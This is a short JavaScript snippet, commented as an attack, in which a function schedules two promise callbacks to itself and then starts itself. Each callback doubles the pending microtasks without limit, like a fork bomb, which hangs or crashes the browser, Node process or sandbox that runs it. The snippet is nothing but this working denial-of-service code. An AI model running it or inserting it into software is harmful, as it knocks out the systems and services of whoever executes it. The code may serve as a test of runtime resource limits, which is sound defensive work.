// Attack: every promise that is kept makes two more.
const flood = () => {
  Promise.resolve().then(flood);
  Promise.resolve().then(flood);
};
flood();
